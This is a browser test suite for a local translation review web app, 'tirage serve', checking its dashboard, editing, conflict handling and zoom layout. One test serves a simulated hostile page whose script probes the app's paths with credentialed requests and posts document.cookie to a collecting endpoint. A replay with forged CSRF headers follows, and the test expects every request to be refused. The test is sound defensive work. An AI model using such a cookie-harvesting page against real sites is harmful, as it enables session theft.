"""The review desk in a real browser: Debian's chromium driven by Selenium through Debian's
chromium-driver, against `tirage serve` running as a user starts it. After each step the
test reads the PO file on disk. Screenshots go to artifacts/ (git-ignored).

Nothing is downloaded: Selenium is given /usr/bin/chromedriver and /usr/bin/chromium, so
Selenium Manager (which could fetch drivers) never runs; the test makes sure of it.
"""

from __future__ import annotations

import http.server
import json
import re
import shutil
import signal
import subprocess
import sys
import threading
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import ClassVar

import pytest

from serve_workspace import MATCHED, make_workspace
from tirage.po.pofile import read_po, save_po

from conftest import REPO

CHROMEDRIVER = shutil.which("chromedriver") or "/usr/bin/chromedriver"
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
pytestmark = [
    pytest.mark.loopback,
    pytest.mark.skipif(
        not (Path(CHROMEDRIVER).is_file() and Path(CHROMIUM).is_file()),
        reason="needs Debian's chromium and chromium-driver",
    ),
]

webdriver = pytest.importorskip("selenium.webdriver")
from selenium.common.exceptions import (  # noqa: E402
    NoSuchElementException,
    StaleElementReferenceException,
)
from selenium.webdriver.common.by import By  # noqa: E402
from selenium.webdriver.common.keys import Keys  # noqa: E402
from selenium.webdriver.remote.webdriver import WebDriver  # noqa: E402
from selenium.webdriver.support.wait import WebDriverWait  # noqa: E402


@pytest.fixture
def served(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """`tirage serve` on a fresh workspace: (the printed URL, the Spanish catalog)."""
    catalog = make_workspace(tmp_path / "ws")
    argv = [sys.executable, "-m", "tirage", "serve", "--port", "0", "-w", str(tmp_path / "ws")]
    process = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert process.stdout is not None
    url = [process.stdout.readline() for _ in range(4)][3].strip()
    assert url.startswith("http://127.0.0.1:"), url
    yield url, catalog
    process.send_signal(signal.SIGINT)
    _, err = process.communicate(timeout=20)
    assert process.returncode == 0, err


@pytest.fixture
def browser(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[WebDriver]:
    from selenium.webdriver.chrome.service import Service
    from selenium.webdriver.common.selenium_manager import SeleniumManager

    def no_download(*args: object, **kwargs: object) -> dict[str, str]:
        raise AssertionError("Selenium Manager must not run: it may download drivers")

    monkeypatch.setattr(SeleniumManager, "binary_paths", no_download)
    monkeypatch.setenv("SE_OFFLINE", "true")
    for proxy in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
        monkeypatch.delenv(proxy, raising=False)
    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for flag in (
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--disable-default-apps",
        "--disable-extensions",
        "--window-size=1280,860",
        f"--user-data-dir={tmp_path / 'profile'}",
    ):
        options.add_argument(flag)
    driver = webdriver.Chrome(options=options, service=Service(executable_path=CHROMEDRIVER))
    try:
        yield driver
    finally:
        driver.quit()


TOKEN_CHARS = re.compile(r"[\w-]{40,}")
DECISION = json.dumps(
    {"lang": "es", "doc": "doc", "msgid": "Bien sûr.", "msgstr": "Pirate.", "base": ""}
).encode()


def shoot(driver: WebDriver, name: str) -> None:
    artifacts = REPO / "artifacts"
    artifacts.mkdir(exist_ok=True)
    shot = artifacts / name
    shot.unlink(missing_ok=True)
    assert driver.save_screenshot(str(shot))
    assert shot.stat().st_size > 10_000


def current(driver: WebDriver) -> str:
    return str(driver.find_element(By.ID, "entry").get_attribute("data-msgid"))


def press(driver: WebDriver, *keys: str) -> None:
    driver.find_element(By.ID, "msgstr").send_keys(*keys)


def moved_on_from(driver: WebDriver, msgid: str) -> str:
    """Wait for the next entry's page (the save navigates to it) and name its entry."""
    loading = (StaleElementReferenceException, NoSuchElementException)
    WebDriverWait(driver, 10, ignored_exceptions=loading).until(lambda d: current(d) != msgid)
    return current(driver)


def entry(path: Path, msgid: str) -> tuple[str, bool]:
    found = read_po(path).find(msgid)
    return found.msgstr, found.fuzzy


def test_review_in_the_browser(served: tuple[str, Path], browser: WebDriver) -> None:
    url, catalog = served
    # The dashboard: every document and language, with tirage stats' numbers.
    browser.get(url)
    assert "token=" not in browser.current_url  # exchanged for a cookie
    rows = browser.find_elements(By.CSS_SELECTOR, "table.catalogs tbody tr")
    assert len(rows) == 4
    spanish = browser.find_element(By.CSS_SELECTOR, 'tr[data-doc="doc"][data-lang="es"]')
    assert spanish.find_element(By.CSS_SELECTOR, '.count[data-state="fuzzy_mt"]').text == "6"
    shoot(browser, "serve-dashboard.png")

    # The review link leads to the document's first entry to do, in document order.
    link = spanish.find_element(By.CSS_SELECTOR, "a.review-link")
    assert link.text == "Review doc in Spanish (6 to do)"
    link.click()
    WebDriverWait(browser, 10).until(lambda d: d.find_elements(By.ID, "entry"))
    assert current(browser) == "Le rapport annuel"
    assert browser.title == "Entry 1 of 6 · doc · Spanish · tirage"
    # Least confident first is a choice: the entry with the memory's match comes first.
    browser.find_element(By.LINK_TEXT, "least confident first").click()
    WebDriverWait(browser, 10).until(lambda d: current(d) == MATCHED)
    assert browser.find_element(By.ID, "msgstr").get_attribute("lang") == "es"
    assert "¿Tiene él los medios?" in browser.find_element(By.CSS_SELECTOR, ".matches").text
    shoot(browser, "serve-review.png")
    # ? lists the shortcuts (outside the text box); Alt+↓ and Alt+↑ move between entries.
    browser.find_element(By.TAG_NAME, "body").send_keys("?")
    assert browser.find_element(By.ID, "help").is_displayed()
    browser.find_element(By.ID, "help").send_keys(Keys.ESCAPE)
    press(browser, Keys.ALT, Keys.ARROW_DOWN)
    second = moved_on_from(browser, MATCHED)
    press(browser, Keys.ALT, Keys.ARROW_UP)
    assert moved_on_from(browser, second) == MATCHED

    # Insert the memory match with Ctrl+1, then save it with Ctrl+Enter.
    press(browser, Keys.CONTROL, "1")
    assert browser.find_element(By.ID, "msgstr").get_attribute("value") == "¿Tiene él los medios?"
    press(browser, Keys.CONTROL, Keys.ENTER)
    accepted = moved_on_from(browser, MATCHED)
    assert entry(catalog, MATCHED) == ("¿Tiene él los medios?", False)

    # Accept the next one as it is, with the keyboard.
    text, fuzzy = entry(catalog, accepted)
    assert fuzzy
    press(browser, Keys.CONTROL, Keys.ENTER)
    edited = moved_on_from(browser, accepted)
    assert entry(catalog, accepted) == (text, False)

    # Edit one: the checks follow the typing; then save.
    box = browser.find_element(By.ID, "msgstr")
    box.clear()
    box.send_keys("Tiene 99 años")
    WebDriverWait(browser, 10).until(
        lambda d: "end-punctuation" in d.find_element(By.ID, "findings").text
    )
    box.send_keys(Keys.BACKSPACE * len("Tiene 99 años"), "A escala internacional, está bien.")
    WebDriverWait(browser, 10).until(
        lambda d: d.find_element(By.ID, "findings").text == "No findings."
    )
    press(browser, Keys.CONTROL, Keys.ENTER)
    conflicted = moved_on_from(browser, edited)
    assert entry(catalog, edited) == ("A escala internacional, está bien.", False)

    # A conflict: the catalog is saved behind the page's back (as Poedit would).
    po = read_po(catalog)
    po.find(conflicted).msgstr = "Texto de Poedit."
    save_po(catalog, po)
    box = browser.find_element(By.ID, "msgstr")
    box.clear()
    box.send_keys("Texto del navegador.")
    press(browser, Keys.CONTROL, Keys.ENTER)
    panel = browser.find_element(By.ID, "conflict")
    WebDriverWait(browser, 10).until(lambda d: panel.is_displayed())
    assert browser.find_element(By.ID, "disk-text").text == "Texto de Poedit."
    assert browser.find_element(By.ID, "your-text").text == "Texto del navegador."
    assert entry(catalog, conflicted) == ("Texto de Poedit.", True)  # nothing overwritten
    shoot(browser, "serve-conflict.png")
    # The reviewer merges the two in the text box and saves.
    box.clear()
    box.send_keys("Texto de Poedit, revisado.")
    browser.find_element(By.ID, "keep-mine").click()
    assert browser.find_element(By.ID, "status").text == ""  # the conflict is resolved
    press(browser, Keys.CONTROL, Keys.ENTER)
    skipped = moved_on_from(browser, conflicted)
    assert entry(catalog, conflicted) == ("Texto de Poedit, revisado.", False)

    # Alt+Enter skips: the next entry comes, and the skipped one is left as it was.
    before = catalog.read_bytes()
    press(browser, Keys.ALT, Keys.ENTER)
    moved_on_from(browser, skipped)
    assert catalog.read_bytes() == before

    # The preview marks what is still in French.
    browser.get(re.sub(r"/review/.*", "/preview/es/doc", browser.current_url))
    marked = browser.find_elements(By.CSS_SELECTOR, 'main span[lang="fr"]')
    assert len(marked) == 2  # the two entries not reviewed yet
    assert marked[0].value_of_css_property("background-color") == "rgba(255, 241, 184, 1)"
    banner = browser.find_element(By.CSS_SELECTOR, ".tirage-preview")
    assert banner.value_of_css_property("background-color") == "rgba(31, 58, 95, 1)"


class Recorder(http.server.BaseHTTPRequestHandler):
    """Another local server, as a hostile or careless page on 127.0.0.1 would be: it keeps
    every request the browser makes to it, and its page makes the browser ask the desk's
    port for everything it can, and send back whatever it can read."""

    seen: ClassVar[list[tuple[str, str, dict[str, str], bytes]]] = []
    desk_port: ClassVar[int] = 0

    def do_GET(self) -> None:
        self.keep()
        desk = f"http://127.0.0.1:{self.desk_port}"
        page = f"""<!DOCTYPE html><title>elsewhere</title>
<img src="{desk}/"><img src="{desk}/api/decide"><img src="/pixel">
<script>
const tries = ["{desk}/", "{desk}/review/es/doc", "{desk}/static/desk.js"];
Promise.allSettled(tries.map(u => fetch(u, {{credentials: "include", mode: "no-cors"}})))
  .then(() => fetch("/collect", {{method: "POST", credentials: "include",
     body: document.cookie + "|" + document.referrer}}))
  .then(() => {{ document.title = "done"; }});
</script>"""
        body = page.encode() if self.path == "/" else b""
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:
        self.keep()
        self.send_response(204)
        self.end_headers()

    def keep(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if self.command == "POST" else b""
        Recorder.seen.append((self.command, self.path, dict(self.headers.items()), body))

    def log_message(self, *args: object) -> None:
        pass


def test_nothing_another_local_page_receives_opens_the_desk(
    served: tuple[str, Path], browser: WebDriver
) -> None:
    url, catalog = served
    before = catalog.read_bytes()
    desk_port = int(url.split(":")[2].split("/")[0])
    browser.get(url)
    WebDriverWait(browser, 10).until(lambda d: d.find_elements(By.CSS_SELECTOR, "table.catalogs"))
    session = [c["value"] for c in browser.get_cookies()]
    assert session and all(TOKEN_CHARS.fullmatch(value) for value in session)

    Recorder.seen = []
    Recorder.desk_port = desk_port
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        elsewhere = f"http://127.0.0.1:{server.server_address[1]}"
        browser.get(elsewhere + "/")
        WebDriverWait(browser, 10).until(lambda d: d.title == "done")
        browser.get(elsewhere + "/review/es/doc?filter=all")  # the desk's paths, elsewhere
    finally:
        server.shutdown()
        server.server_close()
    assert {path for _, path, _, _ in Recorder.seen} >= {"/", "/pixel", "/collect"}
    received = repr(Recorder.seen)
    for value in session:
        assert value not in received  # the desk's cookie never left for another port

    # Replay everything received, as it came and aimed at the desk's paths: all 403.
    statuses = []
    for method, path, headers, body in Recorder.seen:
        headers = {k: v for k, v in headers.items() if k.lower() not in ("content-length",)}
        for target in {path, "/", "/api/decide", "/api/check", "/review/es/doc"}:
            for verb, data in ((method, body or None), ("POST", DECISION)):
                request = urllib.request.Request(
                    f"http://127.0.0.1:{desk_port}{target}", data=data, method=verb
                )
                for key, value in headers.items():
                    request.add_header(key, value)
                request.add_header("X-Tirage-CSRF", headers.get("Cookie", "guess"))
                try:
                    with urllib.request.urlopen(request, timeout=10) as response:
                        statuses.append(response.status)
                except urllib.error.HTTPError as refused:
                    statuses.append(refused.code)
    assert statuses and set(statuses) == {403}
    assert catalog.read_bytes() == before


def test_a_first_dashboard_fills_in_as_catalogs_are_counted(
    tmp_path: Path, browser: WebDriver, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A first run on big catalogs: the dashboard comes at once, says it is counting (in a
    live region), and fills each row in when the start-up has counted it, keeping focus."""
    import socket

    import uvicorn

    from test_serve import PREFIX, RITA, TOKEN
    from tirage.serve import app, pages
    from tirage.workspace import load_workspace

    make_workspace(tmp_path / "ws")
    (tmp_path / "ws" / ".tirage" / "desk-cache.json").unlink(missing_ok=True)
    release = threading.Event()
    real = pages._measure

    def slow(*args: object) -> object:
        assert release.wait(60)
        return real(*args)  # type: ignore[arg-type]

    monkeypatch.setattr(pages, "_measure", slow)
    monkeypatch.setattr(app, "COUNTING_WAIT", 0.2)
    desk = app.create_app(load_workspace(tmp_path / "ws"), RITA, TOKEN, PREFIX)
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    server = uvicorn.Server(uvicorn.Config(desk, log_level="warning", lifespan="off"))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    try:
        browser.get(f"http://127.0.0.1:{sock.getsockname()[1]}/{PREFIX}/?token={TOKEN}")
        status = browser.find_element(By.ID, "counting")
        assert status.get_attribute("role") == "status"
        assert status.text.startswith("Counting 4 catalogs")
        assert len(browser.find_elements(By.CSS_SELECTOR, "td.pending")) == 4
        link = browser.find_element(By.CSS_SELECTOR, 'tr[data-doc="doc"][data-lang="es"] a')
        assert link.text == "Review doc in Spanish"  # to be opened while counted
        browser.execute_script("arguments[0].focus()", link)
        release.set()
        WebDriverWait(browser, 15).until(
            lambda d: d.find_element(By.ID, "counting").text == "Every catalog is counted."
        )
        assert not browser.find_elements(By.CSS_SELECTOR, "td.pending")
        spanish = browser.find_element(By.CSS_SELECTOR, 'tr[data-doc="doc"][data-lang="es"]')
        assert spanish.find_element(By.CSS_SELECTOR, '.count[data-state="fuzzy_mt"]').text == "6"
        assert browser.switch_to.active_element.text == "Review doc in Spanish (6 to do)"
        assert "not counted yet" not in browser.find_element(By.CSS_SELECTOR, "ul.languages").text
    finally:
        release.set()
        server.should_exit = True
        thread.join(20)
        sock.close()


def test_a_draft_survives_its_entry_removed_from_the_catalog(
    served: tuple[str, Path], browser: WebDriver
) -> None:
    url, catalog = served
    browser.get(url)
    browser.get(re.sub(r"/\?.*$|/$", "", browser.current_url) + "/review/es/doc?filter=all")
    msgid = current(browser)
    box = browser.find_element(By.ID, "msgstr")
    box.clear()
    box.send_keys("Mi borrador.")
    # `tirage update` (or a colleague) removes the entry meanwhile.
    po = read_po(catalog)
    po.remove(po.find(msgid))
    save_po(catalog, po)
    before = catalog.read_bytes()
    press(browser, Keys.CONTROL, Keys.ENTER)
    panel = browser.find_element(By.ID, "conflict")
    WebDriverWait(browser, 10).until(lambda d: panel.is_displayed())
    assert "gone from the catalog" in browser.find_element(By.ID, "disk-text").text
    assert catalog.read_bytes() == before  # not written back into the catalog
    kept = browser.execute_script(
        "return Object.keys(localStorage).filter(k => k.startsWith('tirage-draft:'))"
        ".map(k => [JSON.parse(k.slice(13)), JSON.parse(localStorage.getItem(k)).text]);"
    )
    assert kept == [[["es", "doc", None, msgid], "Mi borrador."]]
    # Still there after the page is left and the entry's page is asked for again.
    browser.refresh()
    again = browser.execute_script("return Object.keys(localStorage).length")
    assert again == 1


def test_the_editor_is_usable_at_200_percent_zoom(
    served: tuple[str, Path], browser: WebDriver
) -> None:
    """A 1280 × 860 window at 200 % zoom: 640 × 430 CSS pixels, two device pixels each."""
    url, catalog = served
    metrics = {"width": 640, "height": 430, "deviceScaleFactor": 2, "mobile": False}
    browser.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", metrics)
    browser.get(url)
    browser.get(re.sub(r"/\?.*$|/$", "", browser.current_url) + "/review/es/doc")
    assert browser.execute_script("return window.devicePixelRatio") == 2
    width = browser.execute_script("return document.documentElement.clientWidth")
    assert 600 <= width <= 640  # (less a vertical scroll bar)
    # Nothing needs a sideways scroll, and the text box and the save button are whole.
    assert browser.execute_script("return document.documentElement.scrollWidth") <= width
    for name in ("msgstr", "save"):
        element = browser.find_element(By.ID, name)
        browser.execute_script("arguments[0].scrollIntoView({block: 'center'})", element)
        rect = element.rect
        assert rect["x"] >= 0 and rect["x"] + rect["width"] <= width, (name, rect)
        assert rect["width"] >= (200 if name == "msgstr" else 1)
        on_top = browser.execute_script(
            "const r = arguments[0].getBoundingClientRect();"
            "const top = document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2);"
            "return arguments[0].contains(top);",
            element,
        )
        assert on_top, f"{name} is covered by something else"
    shoot(browser, "serve-review-200.png")
    # And it works: Ctrl+Enter accepts the entry, as at 100 %.
    msgid = current(browser)
    text = browser.find_element(By.ID, "msgstr").get_attribute("value")
    press(browser, Keys.END, " ")
    press(browser, Keys.BACKSPACE, Keys.CONTROL, Keys.ENTER)
    moved_on_from(browser, msgid)
    assert entry(catalog, msgid) == (text, False)
